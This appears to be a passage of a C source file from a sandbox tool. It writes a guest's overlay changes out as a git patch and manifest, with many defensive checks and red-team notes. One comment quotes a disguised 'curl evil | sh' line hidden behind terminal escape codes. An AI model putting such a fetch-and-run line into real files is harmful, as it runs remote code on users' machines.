/* gofer/export.c - `moat run --export DIR`: take the changes of every
 * copy-on-write export out as a patch and a manifest, after the guest.
 *
 * Runs in the gofer (the one process that can read the layers and write the
 * caller's DIR) when the sentry closes the control socket: the program and
 * every guest task are gone, nothing changes the layers any more. For each
 * cow mount (the exports of the root overlay share one, "root", their paths
 * prefixed with "usr/", "etc/"...) it writes DIR/<name>/changes.patch (git's
 * diff format: text hunks of a line diff (common/linediff.c: Myers, three
 * lines of context, framed as git diff frames them), or "GIT binary patch"
 * literals with full blob ids, so `git apply` accepts it in a copy of the
 * source; past the line diff's bound, per file or EXPORT_DIFF_WORK for the
 * whole export, a text file's hunk is its whole changed middle, and its
 * manifest entry says so) and
 * DIR/<name>/manifest.json.
 *
 * The change set is the overlay's upper layer compared with its lower one:
 * a whiteout (char device 0/0) deletes the lower entry, an opaque directory
 * (user.overlay.opaque) deletes every lower entry it does not list, an upper
 * file replaces or adds one (a copy-up whose content and git mode equal the
 * lower file's is no change; a mode-only change is listed in the manifest).
 * user.* extended attributes, which a patch cannot carry, are compared too
 * (xattr_changes): an entry's "xattrs" in the manifest names each one set
 * (sha256 of its value) or removed (null); a file or directory whose only
 * change is an attribute is a "modify" in the manifest, not in the patch.
 * A delete and an add of identical content and mode become a rename, and
 * so do a deleted and an added regular file at least 50% similar (git's
 * default, estimated as git's diffcore does; pair_similar).
 *
 * Policy (each refusal is listed in the manifest with its reason and makes
 * the gofer exit GOFER_EXIT_REFUSED): names a patch cannot carry (control
 * characters, quotes, backslashes), symlinks with an absolute target or one
 * that leaves the mount's root, devices, FIFOs and sockets, a file past
 * --export-max-bytes, and changes past --export-max-files or past
 * --export-max-bytes in total. Hidden names are never read or listed. */
#include "gofer/server.h"
#include "common/linediff.h"
#include "common/log.h"
#include "common/sha.h"
#include "common/util.h"

#define XXH_INLINE_ALL
#include <xxhash.h>

#include <dirent.h>
#include <errno.h>
#include <pthread.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

enum { OP_ADD, OP_MODIFY, OP_DELETE, OP_RENAME };
static const char *const op_name[] = { "add", "modify", "delete", "rename" };

struct change {
	char *path;                 /* in the patch: prefix + rel */
	char *rel;                  /* beneath the export root */
	char *from, *from_rel;      /* rename: the old name */
	const struct gofer_srv_export *e;
	int op, is_dir;
	mode_t old_mode, new_mode;  /* full st_mode (0: none) */
	unsigned long long bytes;   /* new content */
	char xxh3[17], sha256[65];
	char old_sha[65];           /* delete: for rename pairing */
	int whole;                  /* its hunk is the whole changed middle */
	int similarity;             /* rename: percent of content kept (100: same) */
	char *xattrs;               /* user.* changes: a JSON object, or NULL */
	int xattr_only;             /* content and mode the lower's: no patch entry */
	int controls;               /* new text holds terminal controls (content_controls) */
};

struct refusal {
	char *path;
	const char *reason;
};

struct ctx {
	const struct gofer_srv *srv;
	struct change *ch;
	size_t nch, cap;
	struct refusal *rf;
	size_t nrf, rcap;
	char **skipped;             /* .git directories: git apply never writes them */
	size_t nsk;
	/* refusals and skipped .git past listed_max(): counted, not listed */
	unsigned long long rf_unlisted, sk_unlisted;
	unsigned long long hdr_bytes;   /* paths and link targets: within_limits */
	unsigned long long files, bytes;
	unsigned long long diff_work; /* line diff steps spent, all groups */
	int failed;
	int late;                   /* past gofer_export_deadline(): given up */
	struct pending {            /* a written group, placed once all are */
		int dfd, pa, ma;
		FILE *pf, *mf;
	} *pend;
	size_t npend;
};

/* The line diffs of one export together take at most this many steps
 * (~16 files at LINEDIFF_MAX_WORK, seconds); past it each further text
 * file's hunk is its whole changed middle. */
#define EXPORT_DIFF_WORK (1ULL << 31)

/* ---- small helpers ---- */

/* the placement of the outputs and the end of the export: deadline_main
 * never ends the gofer in the middle of place_all, and once the export is
 * placed it exits with the export's status (the reaper's removal of a
 * scratch tree may still be under way: it goes on alone) */
static pthread_mutex_t place_mu = PTHREAD_MUTEX_INITIALIZER;
static int export_status = -1;

static void *deadline_main(void *arg)
{
	double end = *(const double *)arg + GOFER_EXPORT_KILL_MS;
	struct timespec ts = { (time_t)(end / 1000), (long)((end - (double)(time_t)(end / 1000) * 1000) * 1e6) };

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL) == EINTR)
		;
	pthread_mutex_lock(&place_mu);
	_exit(export_status >= 0 ? export_status : GOFER_EXIT_EXPORT_LATE);
}

/* --timeout bounds the export too (red team 68: a guest that left work for
 * it kept moat running 6-25 s past `--timeout 1s`): past the deadline the
 * sentry set, every loop of the walk, the pairing and the writing stops and
 * the export is given up whole (gofer_export_run). The clock is the vDSO's:
 * a check costs nanoseconds. One line diff or one file's hashing between
 * two checks may run on: deadline_main ends the gofer GOFER_EXPORT_KILL_MS
 * later (the sentry, its privilege dropped, may not signal the gofer). */
static int late(struct ctx *x)
{
	if (!x->late) {
		double d = gofer_export_deadline();
		if (d > 0 && moat_ms_now() > d)
			x->late = 1;
	}
	return x->late;
}

static int oat(int dirfd, const char *path, int flags)
{
	struct open_how how = {
		.flags = (uint64_t)(flags | O_CLOEXEC | O_NOFOLLOW),
		.resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS | RESOLVE_NO_MAGICLINKS |
			   RESOLVE_NO_XDEV,
	};
	if (flags & O_CREAT)
		how.mode = 0644;
	return (int)syscall(SYS_openat2, dirfd, path[0] ? path : ".", &how, sizeof how);
}

/* lstat and readlink beneath a layer root, never through a symlink: the
 * lower layer is the live host directory, which its owner may change while
 * we read it (a directory swapped for a symlink must not lead elsewhere) */
static int lst_at(int dirfd, const char *rel, struct stat *st)
{
	int fd = oat(dirfd, rel, O_PATH);
	int r;

	if (fd < 0)
		return -1;
	r = fstat(fd, st);
	close(fd);
	return r;
}

static ssize_t readlink_at(int dirfd, const char *rel, char *buf, size_t len)
{
	int fd = oat(dirfd, rel, O_PATH);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = readlinkat(fd, "", buf, len);
	close(fd);
	return n;
}

static int hidden(const struct gofer_srv_export *e, const char *p)
{
	for (size_t i = 0; i < e->nhidden; i++) {
		size_t hl = strlen(e->hidden[i]);
		if (!strncmp(p, e->hidden[i], hl) && (p[hl] == '\0' || p[hl] == '/'))
			return 1;
	}
	return 0;
}

static char *join(const char *a, const char *b)
{
	size_t la = strlen(a), lb = strlen(b);
	char *r = xmalloc(la + lb + 2);

	memcpy(r, a, la);
	if (la)
		r[la++] = '/';
	memcpy(r + la, b, lb + 1);
	return r;
}

/* How many refusals (and skipped .git directories) one group's manifest
 * lists: --export-max-files, at least 1000; the rest are counted
 * (`"refused_unlisted"`, `"skipped_unlisted"` in its totals). Red team 50:
 * past --export-max-files every further file the guest made was one more
 * refusal line, each with its path of up to PATH_MAX: 50,000 empty files
 * under 2,000-byte paths gave a 117 MB manifest in DIR, and the guest's
 * count of files was the only bound, outside --export-max-bytes. */
static size_t listed_max(const struct ctx *x)
{
	return x->srv->max_files < 1000 ? 1000 : (size_t)x->srv->max_files;
}

static void refuse(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
		   const char *reason)
{
	if (x->nrf >= listed_max(x)) {
		x->rf_unlisted++;
		return;
	}
	if (x->nrf == x->rcap) {
		x->rcap = x->rcap ? 2 * x->rcap : 16;
		x->rf = realloc(x->rf, x->rcap * sizeof *x->rf);
		if (!x->rf)
			_exit(GOFER_EXIT_EXPORT_FAILED);
	}
	x->rf[x->nrf].path = xmalloc(strlen(e->cow_prefix) + strlen(rel) + 1);
	sprintf(x->rf[x->nrf].path, "%s%s", e->cow_prefix, rel);
	x->rf[x->nrf++].reason = reason;
}

static struct change *add_change(struct ctx *x, const struct gofer_srv_export *e,
				 const char *rel, int op)
{
	struct change *c;

	if (x->nch == x->cap) {
		x->cap = x->cap ? 2 * x->cap : 64;
		x->ch = realloc(x->ch, x->cap * sizeof *x->ch);
		if (!x->ch)
			_exit(GOFER_EXIT_EXPORT_FAILED);
	}
	c = &x->ch[x->nch++];
	memset(c, 0, sizeof *c);
	c->e = e;
	c->rel = xstrdup(rel);
	c->path = xmalloc(strlen(e->cow_prefix) + strlen(rel) + 1);
	sprintf(c->path, "%s%s", e->cow_prefix, rel);
	c->op = op;
	return c;
}

/* The whole content of a regular file or a symlink's target (at most max
 * bytes: -EFBIG past it). */
static int slurp(int dirfd, const char *rel, const struct stat *st, unsigned long long max,
		 char **out, size_t *len)
{
	if (S_ISLNK(st->st_mode)) {
		char *b = xmalloc(PATH_MAX);
		ssize_t n = readlink_at(dirfd, rel, b, PATH_MAX);
		if (n < 0) {
			free(b);
			return -errno;
		}
		*out = b;
		*len = (size_t)n;
		return 0;
	}
	if ((unsigned long long)st->st_size > max)
		return -EFBIG;
	int fd = oat(dirfd, rel, O_RDONLY);
	if (fd < 0)
		return -errno;
	size_t cap = (size_t)st->st_size + 1, n = 0;
	char *b = xmalloc(cap);
	for (;;) {
		ssize_t k = read(fd, b + n, cap - n);
		if (k < 0 && errno == EINTR)
			continue;
		if (k < 0) {
			int er = -errno;
			close(fd);
			free(b);
			return er;
		}
		if (k == 0)
			break;
		n += (size_t)k;
		if (n == cap) {
			if (n > max) {
				close(fd);
				free(b);
				return -EFBIG;
			}
			cap *= 2;
			b = realloc(b, cap);
			if (!b)
				_exit(GOFER_EXIT_EXPORT_FAILED);
		}
	}
	close(fd);
	*out = b;
	*len = n;
	return 0;
}

static void hash_sha256(const char *d, size_t n, char *hex)
{
	struct sha_ctx s;
	uint8_t o[32];

	sha256_init(&s);
	sha_update(&s, d, n);
	sha_final(&s, o);
	sha_hex(o, 32, hex);
}

static void blob_id(const char *d, size_t n, char *hex)
{
	struct sha_ctx s;
	uint8_t o[20];
	char h[32];
	int hl = snprintf(h, sizeof h, "blob %zu", n);

	sha1_init(&s);
	sha_update(&s, h, (size_t)hl + 1);
	sha_update(&s, d, n);
	sha_final(&s, o);
	sha_hex(o, 20, hex);
}

static unsigned git_mode(mode_t m)
{
	if (S_ISLNK(m))
		return 0120000;
	return (m & 0111) ? 0100755 : 0100644;
}

/* Does target, relative to the directory of path (both beneath the mount's
 * root), stay beneath the root? Lexically, and only in the form "../" at
 * most depth times, then names: a ".." after a name is refused, since that
 * name may be a symlink (`a -> .`, then `x -> a/..` is the root's parent,
 * though lexically the root: red team 13). The leading ".." climb real
 * directories (the link's own parents); each name after them is a
 * directory of the tree or a symlink checked the same way, so the target
 * stays beneath the root whatever the names are. */
static int link_escapes(const char *path, const char *target)
{
	int depth = 0, named = 0;

	for (const char *p = path; *p; p++)
		if (*p == '/')
			depth++;
	for (const char *s = target; *s;) {
		const char *e = strchrnul(s, '/');
		size_t l = (size_t)(e - s);
		if (l == 2 && s[0] == '.' && s[1] == '.') {
			if (named || --depth < 0)
				return 1;
		} else if (l && !(l == 1 && s[0] == '.')) {
			named = 1;
		}
		s = *e ? e + 1 : e;
	}
	return 0;
}

/* The UTF-8 sequence at p: its code point and length, or -1 (invalid:
 * a stray continuation, an overlong form, a surrogate, past U+10FFFF). */
static long utf8_at(const unsigned char *p, int *len)
{
	long c;
	int n;

	if (p[0] < 0x80) {
		*len = 1;
		return p[0];
	}
	if (p[0] >= 0xc2 && p[0] <= 0xdf)
		n = 2, c = p[0] & 0x1f;
	else if (p[0] >= 0xe0 && p[0] <= 0xef)
		n = 3, c = p[0] & 0x0f;
	else if (p[0] >= 0xf0 && p[0] <= 0xf4)
		n = 4, c = p[0] & 0x07;
	else
		return -1;
	for (int i = 1; i < n; i++) {
		if ((p[i] & 0xc0) != 0x80)
			return -1;
		c = (c << 6) | (p[i] & 0x3f);
	}
	if ((n == 3 && c < 0x800) || (n == 4 && (c < 0x10000 || c > 0x10ffff)) || (c >= 0xd800 && c <= 0xdfff))
		return -1;
	*len = n;
	return c;
}

/* What a terminal would act on or show other than it is: C0 and C1
 * controls, DEL, the bidirectional overrides and marks */
static int unsafe_cp(long c)
{
	return c < 0x20 || c == 0x7f || moat_cp_hidden((uint32_t)c);
}

/* Names the export refuses: control characters (C0, DEL and C1: a raw
 * 0x9b or U+009B is a terminal's CSI, which moat diff and a cat of the
 * patch would send to the reader's terminal: red team 13), a name that is
 * no UTF-8 (no JSON string holds it), quotes, backslashes */
static int bad_name(const char *n)
{
	for (const unsigned char *p = (const unsigned char *)n; *p;) {
		int l;
		long c = utf8_at(p, &l);
		if (c < 0 || (c < 0xa0 && unsafe_cp(c)) || c == '"' || c == '\\')
			return 1;
		p += l;
	}
	return 0;
}

/* Names git apply's verify_path refuses, one of which fails the whole
 * patch ("invalid path", nothing applied: red team 17, a guest's ".GIT"
 * directory made every other change of the export unappliable): ".git" in
 * any case (the exact ".git" is skipped as git metadata before this), with
 * trailing dots or spaces or an NTFS stream (":..."), its 8.3 short name
 * "git~1", and with the code points HFS+ ignores (core.protectHFS, macOS's
 * default) inside; a symlink named ".gitmodules" in those forms too
 * ("gitmod~1"). Refused as names a patch cannot carry. */
static int hfs_ignorable(long c)
{
	return (c >= 0x200c && c <= 0x200f) || (c >= 0x202a && c <= 0x202e) ||
	       (c >= 0x206a && c <= 0x206f) || c == 0xfeff;
}

static int git_refuses(const char *n, int is_link)
{
	char f[NAME_MAX + 1];
	size_t k = 0;

	/* folded: ASCII lower case, HFS+ ignorables dropped */
	for (const unsigned char *p = (const unsigned char *)n; *p && k < sizeof f - 1;) {
		int l;
		long c = utf8_at(p, &l);
		if (c < 0)
			return 0; /* (no UTF-8: refused by bad_name) */
		if (!hfs_ignorable(c)) {
			if (l == 1)
				f[k++] = (char)(c >= 'A' && c <= 'Z' ? c - 'A' + 'a' : c);
			else
				for (int i = 0; i < l && k < sizeof f - 1; i++)
					f[k++] = (char)p[i];
		}
		p += l;
	}
	f[k] = 0;
	/* NTFS: trailing dots and spaces are not part of the name, nor is a
	 * stream after ':' */
	char *colon = strchr(f, ':');
	if (colon)
		*colon = 0;
	while (k && (f[k - 1] == '.' || f[k - 1] == ' '))
		f[--k] = 0;
	if (!k)
		return 0;
	if (!strcmp(f, ".git") || !strcmp(f, "git~1"))
		return 1;
	return is_link && (!strcmp(f, ".gitmodules") || !strncmp(f, "gitmod~", 7));
}

/* ---- the walk ---- */

static void delete_tree(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
			const struct stat *lst);

/* Record the new content of an upper entry (add or modify); 0 or refused. */
/* Does a text the patch carries raw (no NUL in its first 8000 bytes: not a
 * binary literal; a symlink's target) hold what a terminal acts on or
 * shows as other than it is: C0 controls but tab, LF, FF and a CR before
 * LF, DEL, C1 (U+0080-U+009F, or a raw byte 0x80-0x9f), the bidi
 * controls? Then `cat changes.patch` or a pager shows another line than
 * git apply writes: red-team round 64, an added line "curl evil | sh" +
 * CR + ESC[2K + "echo done" showed as "echo done", and `moat diff` said
 * "M setup.sh (file, 40 bytes)". Only flagged (the manifest's
 * "controls", moat diff's "terminal controls"), never changed. */
static int content_controls(const char *d, size_t n)
{
	const unsigned char *p = (const unsigned char *)d, *end = p + n;

	if (memchr(d, 0, n < 8000 ? n : 8000))
		return 0;       /* a binary literal in the patch: base85 */
	while (p < end) {
		if (*p < 0x80) {
			if ((*p < 0x20 && *p != '\t' && *p != '\n' && *p != '\f' &&
			     !(*p == '\r' && p + 1 < end && p[1] == '\n')) || *p == 0x7f)
				return 1;
			p++;
			continue;
		}
		unsigned char u[5] = { 0 };
		int l = 1;
		memcpy(u, p, (size_t)(end - p) < 4 ? (size_t)(end - p) : 4);
		long c = utf8_at(u, &l);
		if (c < 0) {
			if (*p < 0xa0)
				return 1;   /* an 8-bit C1 */
			l = 1;
		} else if (unsafe_cp(c)) {
			return 1;
		}
		p += l;
	}
	return 0;
}

static int take_new(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
		    const struct stat *ust, struct change *c)
{
	char *d;
	size_t n;
	int r = slurp(e->upperfd, rel, ust, x->srv->max_bytes, &d, &n);

	if (r == -EFBIG) {
		refuse(x, e, rel, "file over --export-max-bytes");
		return -1;
	}
	if (r < 0) {
		refuse(x, e, rel, "unreadable");
		return -1;
	}
	c->bytes = n;
	snprintf(c->xxh3, sizeof c->xxh3, "%016llx", (unsigned long long)XXH3_64bits(d, n));
	hash_sha256(d, n, c->sha256);
	c->controls = content_controls(d, n);
	free(d);
	return 0;
}

/* the length of prefix+rel as the patch writes it (moat_quote_path) */
static unsigned long long path_out_len(const char *prefix, const char *rel)
{
	unsigned long long n = 2;
	for (int part = 0; part < 2; part++)
		for (const unsigned char *p = (const unsigned char *)(part ? rel : prefix); *p; p++)
			n += (*p < 0x20 || *p == '"' || *p == '\\' || *p >= 0x7f) ? 4 : 1;
	return n;
}

/* Is there room for one more change of rel (st: its new or deleted entry)
 * under --export-max-files and --export-max-bytes? Refused if not. The
 * byte total holds the files' contents (the manifest's "bytes") and the
 * paths and link targets the output holds for them (hdr_bytes). */
static int within_limits(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
			 const struct stat *st)
{
	unsigned long long b = S_ISREG(st->st_mode) ? (unsigned long long)st->st_size : 0;
	/* its path as the output holds it: quoted in up to four patch header
	 * lines, once in the manifest (red team 50: 10,000 empty files under
	 * 4,000-byte paths of non-ASCII names made a patch of ~320 MB from 0
	 * bytes of content, past --export-max-bytes); a symlink's target */
	unsigned long long h = 5ULL * path_out_len(e->cow_prefix, rel) +
			       (S_ISLNK(st->st_mode) ? (unsigned long long)st->st_size : 0);

	if (x->files + 1 > x->srv->max_files) {
		refuse(x, e, rel, "change set over --export-max-files");
		return 0;
	}
	if (x->bytes + x->hdr_bytes + b + h > x->srv->max_bytes) {
		refuse(x, e, rel, b > x->srv->max_bytes ? "file over --export-max-bytes"
			: "change set over --export-max-bytes");
		return 0;
	}
	x->files++;
	x->bytes += b;
	x->hdr_bytes += h;
	return 1;
}

/* A device node the guest made (syscalls/sys_file.c do_mknodat): an empty
 * regular file marked with user.moat.vdev; refused as the device it is. */
static int vdev_marked(int dirfd, const char *rel)
{
	char v[4];
	int fd = oat(dirfd, rel, O_RDONLY | O_NONBLOCK);
	if (fd < 0)
		return 0;
	ssize_t n = fgetxattr(fd, "user.moat.vdev", v, sizeof v);
	close(fd);
	return n > 0;
}

/* A lower entry of a system-view export that others may not read (a
 * directory: read and search): sealed in the guest's view (fs/vfs.c sealed_file), so never read, listed or
 * diffed here, whatever the guest did to its name. Before red team round 7
 * guest root (run as root) removed /etc/default/cacerts, root's 0600 file,
 * or renamed it and made another in its place, and the export wrote its
 * content into changes.patch (0644): the guest had put a host secret it may
 * not read outside the sandbox. The change is refused instead. */
static int sealed_lower(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
			const struct stat *lst)
{
	if (!e->sealed || S_ISLNK(lst->st_mode) ||
	    ((lst->st_mode & S_IROTH) && (!S_ISDIR(lst->st_mode) || (lst->st_mode & S_IXOTH))))
		return 0;
	refuse(x, e, rel, "a host file others may not read (sealed): never exported");
	return 1;
}

/* ---- user.* extended attributes ----
 *
 * A patch cannot carry them, so the manifest does: per path "xattrs":
 * {name: sha256 of the new value, or null for one removed}, the upper
 * entry's user.* attributes against the lower one's (overlayfs copies them
 * up with the file, the guest's setxattr/removexattr act on the upper copy;
 * overlayfs's own user.overlay.* are layer metadata, never listed). */
#define XA_LIST 65536
#define XA_VAL 65536

struct xa_set {
	char *names;                /* NUL-separated user.* names */
	ssize_t len;
	int fd;
};

static void xa_open(int dirfd, const char *rel, const struct stat *st, struct xa_set *s)
{
	s->names = NULL;
	s->len = 0;
	s->fd = -1;
	if (!st || (!S_ISREG(st->st_mode) && !S_ISDIR(st->st_mode)))
		return;             /* symlinks and the rest carry no user.* */
	s->fd = oat(dirfd, rel, O_RDONLY | O_NONBLOCK | O_NOCTTY);
	if (s->fd < 0)
		return;
	s->names = xmalloc(XA_LIST);
	s->len = flistxattr(s->fd, s->names, XA_LIST);
	if (s->len < 0)
		s->len = 0;
}

static int xa_user(const char *n)
{
	return !strncmp(n, "user.", 5) && strncmp(n, "user.overlay.", 13) &&
	       strncmp(n, "user.moat.", 10);
}

static int xa_has(const struct xa_set *s, const char *name)
{
	for (ssize_t i = 0; i < s->len; i += (ssize_t)strlen(s->names + i) + 1)
		if (!strcmp(s->names + i, name))
			return 1;
	return 0;
}

static void json_str(FILE *f, const char *s);

/* The user.* changes of rel (ust: its upper entry, lst: the lower one or
 * NULL) as a JSON object; NULL when there is none. */
static char *xattr_changes_(const struct gofer_srv_export *e, const char *rel,
			    const struct stat *ust, const struct stat *lst, int no_removed)
{
	struct xa_set u, l;
	char *out = NULL, *uv = NULL, *lv = NULL;
	size_t olen = 0;
	FILE *f = NULL;
	int n = 0;

	xa_open(e->upperfd, rel, ust, &u);
	xa_open(e->lowerfd, rel, lst, &l);
	if (!u.len && !l.len)
		goto out;
	uv = xmalloc(XA_VAL);
	lv = xmalloc(XA_VAL);
	f = open_memstream(&out, &olen);
	if (!f)
		_exit(GOFER_EXIT_EXPORT_FAILED);
	for (ssize_t i = 0; i < u.len; i += (ssize_t)strlen(u.names + i) + 1) {
		const char *nm = u.names + i;
		char hex[65];
		if (!xa_user(nm))
			continue;
		ssize_t a = fgetxattr(u.fd, nm, uv, XA_VAL), b = -1;
		if (a < 0)
			continue;
		if (l.fd >= 0 && xa_has(&l, nm))
			b = fgetxattr(l.fd, nm, lv, XA_VAL);
		if (a == b && !memcmp(uv, lv, (size_t)a))
			continue;
		hash_sha256(uv, (size_t)a, hex);
		fputs(n++ ? ", " : "{", f);
		json_str(f, nm);
		fprintf(f, ": \"%s\"", hex);
	}
	for (ssize_t i = 0; i < l.len && !no_removed; i += (ssize_t)strlen(l.names + i) + 1) {
		const char *nm = l.names + i;
		if (!xa_user(nm) || xa_has(&u, nm))
			continue;
		fputs(n++ ? ", " : "{", f);
		json_str(f, nm);
		fputs(": null", f);
	}
	if (n)
		fputc('}', f);
	if (fclose(f) != 0)
		_exit(GOFER_EXIT_EXPORT_FAILED);
	if (!n) {
		free(out);
		out = NULL;
	}
out:
	free(uv);
	free(lv);
	free(u.names);
	free(l.names);
	if (u.fd >= 0)
		close(u.fd);
	if (l.fd >= 0)
		close(l.fd);
	return out;
}

static char *xattr_changes(const struct gofer_srv_export *e, const char *rel,
			   const struct stat *ust, const struct stat *lst)
{
	return xattr_changes_(e, rel, ust, lst, 0);
}

/* A non-directory of the upper layer at rel (lst: the lower entry or NULL). */
static void upper_file(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
		       const char *name, const struct stat *ust, const struct stat *lst)
{
	struct change *c;
	const char *why = NULL;

	if (S_ISFIFO(ust->st_mode))
		why = "fifo";
	else if (S_ISSOCK(ust->st_mode))
		why = "socket";
	else if (S_ISCHR(ust->st_mode) || S_ISBLK(ust->st_mode))
		why = "device node";
	else if (S_ISREG(ust->st_mode) && ust->st_size == 0 && vdev_marked(e->upperfd, rel))
		why = "device node";
	else if (bad_name(name))
		why = "name a patch cannot carry";
	else if (git_refuses(name, S_ISLNK(ust->st_mode)))
		why = "name git apply refuses (.git in another form): the whole patch would fail";
	if (!why && S_ISLNK(ust->st_mode)) {
		char t[PATH_MAX];
		ssize_t n = readlink_at(e->upperfd, rel, t, sizeof t - 1);
		if (n < 0)
			why = "unreadable";
		else {
			t[n] = 0;
			char *full = xmalloc(strlen(e->cow_prefix) + strlen(rel) + 1);
			sprintf(full, "%s%s", e->cow_prefix, rel);
			if (t[0] == '/')
				why = "absolute symlink (points to a host path)";
			else if (link_escapes(full, t))
				why = "symlink points outside the root";
			free(full);
		}
	}
	if (why) {
		refuse(x, e, rel, why);
		return;
	}
	if (lst && sealed_lower(x, e, rel, lst))
		return;
	if (lst && S_ISDIR(lst->st_mode)) {
		delete_tree(x, e, rel, lst);
		lst = NULL;
	}
	if (lst && (S_ISREG(lst->st_mode) || S_ISLNK(lst->st_mode)) &&
	    (lst->st_mode & S_IFMT) == (ust->st_mode & S_IFMT)) {
		/* copied up: changed at all? */
		char *a = NULL, *b = NULL;
		size_t la = 0, lb = 0;
		int same = lst->st_size == ust->st_size &&
			   slurp(e->lowerfd, rel, lst, x->srv->max_bytes, &a, &la) == 0 &&
			   slurp(e->upperfd, rel, ust, x->srv->max_bytes, &b, &lb) == 0 &&
			   la == lb && !memcmp(a, b, la);
		free(a);
		free(b);
		char *xa = xattr_changes(e, rel, ust, lst);
		/* nothing a patch carries changed: the content and the git
		 * mode (100644/100755) are the lower's. A chmod within one git
		 * mode (0644 -> 0666, 0755 -> 0700) is then a manifest entry
		 * only, as an attribute's change is: before red-team round 64
		 * it wrote a `diff --git` header and an index line with nothing
		 * after them, which git apply refuses ("patch with only garbage"),
		 * the whole patch with it, so one guest chmod kept every other
		 * change out */
		int only = same && git_mode(lst->st_mode) == git_mode(ust->st_mode);
		if (only && (lst->st_mode & 07777) == (ust->st_mode & 07777) && !xa)
			return;         /* a copy-up only (utimes, chown, touch) */
		if (!within_limits(x, e, rel, ust)) {
			free(xa);
			return;
		}
		c = add_change(x, e, rel, OP_MODIFY);
		c->old_mode = lst->st_mode;
		c->new_mode = ust->st_mode;
		c->xattrs = xa;
		c->xattr_only = only;   /* an attribute's or a mode's change only: in the manifest */
		if (take_new(x, e, rel, ust, c) < 0) {
			free(xa);
			x->nch--;
		}
		return;
	}
	if (lst)
		delete_tree(x, e, rel, lst);
	if (!within_limits(x, e, rel, ust))
		return;
	c = add_change(x, e, rel, OP_ADD);
	c->new_mode = ust->st_mode;
	if (take_new(x, e, rel, ust, c) < 0)
		x->nch--;
	else
		c->xattrs = xattr_changes(e, rel, ust, NULL);
}

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Sorted names of a directory (without . and ..); NULL on error. */
static char **list_dir(int dirfd, const char *rel, size_t *n)
{
	int fd = oat(dirfd, rel, O_RDONLY | O_DIRECTORY);
	DIR *d;
	struct dirent *de;
	char **v = NULL;
	size_t cap = 0;

	*n = 0;
	if (fd < 0 || !(d = fdopendir(fd))) {
		if (fd >= 0)
			close(fd);
		return NULL;
	}
	while ((de = readdir(d))) {
		if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
			continue;
		if (*n == cap) {
			cap = cap ? 2 * cap : 32;
			v = realloc(v, cap * sizeof *v);
			if (!v)
				_exit(GOFER_EXIT_EXPORT_FAILED);
		}
		v[(*n)++] = xstrdup(de->d_name);
	}
	closedir(d);
	if (*n)
		qsort(v, *n, sizeof *v, cmp_str);
	return v ? v : xcalloc(1, sizeof *v);
}

static void free_list(char **v, size_t n)
{
	for (size_t i = 0; i < n; i++)
		free(v[i]);
	free(v);
}

/* Everything of the lower layer at rel is gone. */
static void delete_tree(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
			const struct stat *lst)
{
	if (hidden(e, rel) || sealed_lower(x, e, rel, lst))
		return;
	/* a lower name is the host's, yet its deletion (or a rename from it)
	 * puts it in the patch as well: one a patch cannot carry (a newline
	 * and a forged `diff --git` header after it, a terminal's escape) is
	 * refused like an upper one, with everything beneath it (red team 17:
	 * a guest's rm -rf of a host tree whose names spelled a new file's
	 * header gave git apply a patch that made a file the manifest never
	 * named) */
	const char *base = strrchr(rel, '/');
	if (bad_name(base ? base + 1 : rel)) {
		refuse(x, e, rel, "name a patch cannot carry");
		return;
	}
	if (git_refuses(base ? base + 1 : rel, S_ISLNK(lst->st_mode))) {
		refuse(x, e, rel, "name git apply refuses (.git in another form): the whole patch would fail");
		return;
	}
	if (S_ISDIR(lst->st_mode)) {
		size_t n;
		char **v = list_dir(e->lowerfd, rel, &n);
		for (size_t i = 0; v && i < n && !late(x); i++) {
			char *cr = join(rel, v[i]);
			struct stat st;
			if (strlen(cr) >= PATH_MAX)
				refuse(x, e, cr, "path too long (PATH_MAX): its deletion is not exported");
			else if (lst_at(e->lowerfd, cr, &st) == 0)
				delete_tree(x, e, cr, &st);
			free(cr);
		}
		free_list(v, n);
		struct change *c = add_change(x, e, rel, OP_DELETE);
		c->is_dir = 1;
		c->old_mode = lst->st_mode;
		return;
	}
	if (!S_ISREG(lst->st_mode) && !S_ISLNK(lst->st_mode)) {
		refuse(x, e, rel, "deletes a special file");
		return;
	}
	if (!within_limits(x, e, rel, lst))
		return;
	struct change *c = add_change(x, e, rel, OP_DELETE);
	char *d;
	size_t n;
	c->old_mode = lst->st_mode;
	if (slurp(e->lowerfd, rel, lst, ~0ULL, &d, &n) == 0) {
		hash_sha256(d, n, c->old_sha);
		free(d);
	}
}

static int is_opaque(int upperfd, const char *rel)
{
	char v[4];
	int fd = oat(upperfd, rel, O_RDONLY | O_DIRECTORY);
	ssize_t n;

	if (fd < 0)
		return 0;
	n = fgetxattr(fd, "user.overlay.opaque", v, sizeof v);
	close(fd);
	return n == 1 && v[0] == 'y';
}

/* The mount's root directory's own mode, as diff_dir compares a lower
 * directory's (the upper root starts with the lower's: setup.c mount_cow):
 * a modify of the prefix's directory, "." at a cow bind's root. */
static void root_mode(struct ctx *x, const struct gofer_srv_export *e)
{
	struct stat ust, lst;

	if (fstat(e->upperfd, &ust) < 0 || fstat(e->lowerfd, &lst) < 0)
		return;
	/* and the user.* attributes the guest set on it (before red-team
	 * round 64 a setxattr on a cow bind's root was in neither file). Not
	 * those of the lower root the upper one lacks: mount_cow gives it the
	 * lower's mode and owner, not its attributes, so the guest never saw
	 * them, and could neither remove them nor have them removed */
	char *xa = xattr_changes_(e, "", &ust, &lst, 1);
	if (!xa && !((ust.st_mode ^ lst.st_mode) & 07777))
		return;
	struct change *c = add_change(x, e, "", OP_MODIFY);
	c->xattrs = xa;
	size_t l = strlen(c->path);
	if (l && c->path[l - 1] == '/')
		c->path[l - 1] = 0;
	else if (!l) {
		free(c->path);
